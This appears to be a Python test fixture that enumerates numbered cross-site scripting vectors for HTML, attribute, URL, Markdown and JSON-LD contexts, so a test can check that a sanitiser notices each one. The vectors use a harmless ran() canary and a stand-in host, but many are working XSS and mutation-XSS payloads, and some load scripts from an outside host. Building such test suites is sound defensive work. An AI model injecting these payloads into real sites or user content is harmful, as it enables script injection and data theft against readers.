"""Injection vectors: texts by which an author might run a script in the readers' pages.

Each calls `ran()`, or requests something from the host of `CANARY`. `Place` says where it does so
if it is output unchanged, by which a test checks that each vector would be noticed.
"""

from dataclasses import dataclass
from enum import Enum, auto

CANARY = "canary.example"


class Place(Enum):
    """The context in which a vector works if it is output unchanged."""

    MARKUP = auto()  # HTML content
    VALUE = auto()  # a double-quoted attribute value
    ADDRESS = auto()  # the URL of a link
    MARKDOWN = auto()  # Markdown whose renderer lets every URL and all HTML pass
    DATA = auto()  # a string in JSON-LD
    NOWHERE = auto()  # no browser by itself: only a mistake of a program would run it


@dataclass(frozen=True, slots=True)
class Vector:
    """One injection vector, with a number by which it is identified when it runs."""

    number: int
    place: Place
    text: str


_SCRIPTS = [
    "<script>ran()</script>",
    "<ScRiPt>ran()</sCrIpT >",
    "<script\n>ran()</script\n>",
    "<script/x>ran()</script>",
    "<script src=http://canary.example/a.js></script>",
    "<script type=module>ran()</script>",
    "<script type=importmap>{}</script><script type=module src=http://canary.example/m.js></script>",
    "<scr\u0131pt>ran()</scr\u0131pt><script>ran()</script>",
    "<svg><script>ran()</script></svg>",
    "<svg><script href=http://canary.example/s.js></script></svg>",
    "<svg><script>ran&#40;&#41;</script></svg>",
    "<b>x</b><script>ran()//",
    "</p></div></article></main><script>ran()</script>",
]
_HANDLERS = [
    "<img src=x: onerror=ran()>",
    "<img src onerror=ran()>",
    "<img\nsrc=x:\nonerror\n=\nran()\n>",
    "<img/src=x:/onerror=ran()/>",
    '<img src="x:" OnErRoR="ran()">',
    "<img src=/static/dateline.svg onload=ran()>",
    "<image src=x: onerror=ran()>",
    "<audio src=x: onerror=ran()></audio>",
    "<video><source src=x: onerror=ran()></video>",
    "<video poster=http://canary.example/poster.png></video>",
    "<body onload=ran()>",
    "<input autofocus onfocus=ran()>",
    "<p tabindex=0 autofocus onfocus=ran()>x</p>",
    "<details open ontoggle=ran()>x</details>",
    "<marquee onstart=ran()>x</marquee>",
    "<a href=# onclick=ran()>x</a>",
    "<b onpointerrawupdate=ran()>x</b>",
    "<p onbeforematch=ran() hidden=until-found>x</p>",
    "<p popover id=p onbeforetoggle=ran()>x</p><button popovertarget=p>x</button>",
    "<x-y onanimationend=ran() style='animation:dateline 1s'>x</x-y>",
    "<p style='background:url(http://canary.example/css)'>x</p>",
    "<p style='width:expression(ran())' onmouseenter=ran()>x</p>",
    "<link rel=stylesheet href=http://canary.example/c.css>",
    "<style>@import 'http://canary.example/i.css';</style>",
    "<img src=/static/dateline.svg srcset='http://canary.example/s.png 1x'>",
    "<picture><source srcset=http://canary.example/p.png><img src=/x.png></picture>",
    "<svg onload=ran()></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
    "<svg><image href=http://canary.example/i.svg onerror=ran()></svg>",
    "<svg><use href='http://canary.example/u.svg#x'></use><a href='javascript:ran()'>x</a></svg>",
    "<svg><a><animate attributeName=href values='javascript:ran()'/><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x: onerror=ran()></foreignObject></svg>",
]
_MUTATIONS = [
    '<noscript><p title="</noscript><img src=x: onerror=ran()>"></noscript>',
    '<style><a title="</style><img src=x: onerror=ran()>"></style>',
    '<textarea><a title="</textarea><img src=x: onerror=ran()>"></textarea>',
    '<title><a title="</title><img src=x: onerror=ran()>"></title>',
    '<xmp><p title="</xmp><img src=x: onerror=ran()>"></xmp>',
    '<noembed><p title="</noembed><img src=x: onerror=ran()>"></noembed>',
    '<noframes><p title="</noframes><img src=x: onerror=ran()>"></noframes>',
    "<template><img src=x: onerror=ran()></template><script>ran()</script>",
    "<template shadowrootmode=open><img src=x: onerror=ran()></template>",
    "<plaintext><img src=x: onerror=ran()></plaintext><script>ran()</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x: onerror=ran()>'>",
    "<math><mtext><mglyph><style><img src=x: onerror=ran()>",
    "<math><annotation-xml encoding=text/html><img src=x: onerror=ran()></annotation-xml></math>",
    "<math><a xlink:href=javascript:ran()><mtext>x</mtext></a></math>",
    "<form><math><mtext></form><form><mglyph><style><path id='</style><img src=x: onerror=ran()>'>",
    "<svg></p><style><g title='</style><img src=x: onerror=ran()>'>",
    "<svg><desc><table><p title='</desc></svg>'></table></svg><img src=x: onerror=ran()>",
    "<table><tr><td><form><table></form><img src=x: onerror=ran()></table></td></tr></table>",
    "<table><img src=x: onerror=ran()><tr><td>x</td></tr></table>",
    "<select><template><b></select><img src=x: onerror=ran()>",
    "<a><table><a href=javascript:ran()>x</a></table></a>",
    "<ol><li><ul><li></ol><img src=x: onerror=ran()>",
    "<!--><img src=x: onerror=ran()>-->",
    "<!--[if gte IE 4]><script>ran()</script><![endif]--><img src=x: onerror=ran()>",
    "<!-- --!><img src=x: onerror=ran()> -->",
    "<![CDATA[><img src=x: onerror=ran()>]]>",
    "<svg><![CDATA[</svg><img src=x: onerror=ran()>]]></svg><img src=x: onerror=ran()>",
    "<?php ><img src=x: onerror=ran()> ?>",
    "<<img src=x: onerror=ran()>",
    "<p title='`'><img src=x: onerror=`ran()` onload=ran()>",
]
_FRAMES = [
    "<iframe srcdoc='<script>ran()</script>'></iframe>",
    "<iframe src=javascript:ran()></iframe>",
    "<iframe src=http://canary.example/f></iframe>",
    "<object data=http://canary.example/o></object>",
    "<object data=javascript:ran()></object>",
    "<embed src=http://canary.example/e>",
    "<meta http-equiv=refresh content='0;url=http://canary.example/r'>",
    "<base href=http://canary.example/><img src=after-base.png>",
    "<form action=javascript:ran()><button>x</button></form>",
    "<form><button formaction=javascript:ran()>x</button></form>",
    "<input type=image src=http://canary.example/t formaction=javascript:ran()>",
    "<a href=http://canary.example/ping ping=http://canary.example/ping onclick=ran()>x</a>",
    "<form id=main><input name=dataset><input name=querySelector></form>",
    "<a id=keyEvents></a><a id=keyEvents name=content href=javascript:ran()>x</a>",
    "<p id=main class=timeline data-cursor=0 data-newest>x</p><img name=currentScript src=/x>",
    "<time class=date datetime=x><template id=day><img src=x: onerror=ran()></template></time>",
]
_VALUES = [
    '"><script>ran()</script>',
    '"><img src=x: onerror=ran()>',
    '" autofocus tabindex=0 onfocus=ran() x="',
    '"onmouseover=ran()//',
    '"/onclick=ran()/x="',
    '"\tonclick=ran()\tx="',
    '"\nonclick=ran()\nx="',
    '"style="background:url(http://canary.example/v)"x="',
    '"></title></style></textarea></noscript></template><script>ran()</script>',
]
_ADDRESSES = [
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    " \tjavascript:ran()",
    "java\tscript:ran()",
    "java\nscript:ran()",
    "javascript://news.example/%0aran()",
    "&#106;avascript&colon;ran()",
    "&#x6a&#x61;vascript&#58ran()",
    "jav&NewLine;ascript&colon;ran()",
    "data:text/html,<script>ran()</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
]
_MARKDOWN = [
    "[x](javascript:ran())",
    "[x](<JAVASCRIPT:ran() >)",
    "[x](&#106;avascript:ran())",
    "[x](data:text/html,ran())",
    "![x](javascript:ran())<img src=x: onerror=ran()>",
    "<javascript:ran()>",
    "[x][r]\n\n[r]: javascript:ran() 'x'",
    "[x]\n\n[x]: <javascript&colon;ran()>",
    '[x](https://news.example/ "\\"><img src=x: onerror=ran()>")<img src=x: onerror=ran()>',
    "[<img src=x: onerror=ran()>](https://news.example/)",
    "| x |\n|---|\n| <img src=x: onerror=ran()> |",
    "> - # <svg onload=ran()>",
    '```x"><script>\n```\n<script>ran()</script>',
]
_DATA = [
    "</script><script>ran()</script>",
    "</ScRiPt\t><img src=x: onerror=ran()>",
    "</script/><svg onload=ran()>",
    "<!--<script></script><script>ran()</script>--></script><script>ran()</script>",
    '"}</script><script>ran()</script>{"x":"',
]
_WORDS = [
    "{{7*7}}{% raw %}{{ cycler.__init__.__globals__ }}",
    "${ran()}<%= ran() %>#{ran()}`${ran()}`",
    "\u2028ran()\u2029ran()",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "&lt;img src=x: onerror=ran()&gt;",
    "&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;",
    "\u202egpj.<script>ran()</script>\u2066x",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "\u00bcscript\u00beran()\u00bc/script\u00be",
    "<scr\x00ipt>ran()</scr\x00ipt>",
    "<\ufeffscript>ran()</\ufeffscript>",
    "__proto__.constructor",
]
_KINDS = {
    Place.MARKUP: [*_SCRIPTS, *_HANDLERS, *_MUTATIONS, *_FRAMES],
    Place.VALUE: _VALUES,
    Place.ADDRESS: _ADDRESSES,
    Place.MARKDOWN: _MARKDOWN,
    Place.DATA: _DATA,
    Place.NOWHERE: _WORDS,
}


def _numbered(text: str, number: int) -> str:
    return text.replace("ran()", f"ran({number})").replace(f"{CANARY}/", f"{CANARY}/{number}/")


_ALL = [(place, text) for place, texts in _KINDS.items() for text in texts]
VECTORS = [Vector(n, place, _numbered(text, n)) for n, (place, text) in enumerate(_ALL)]
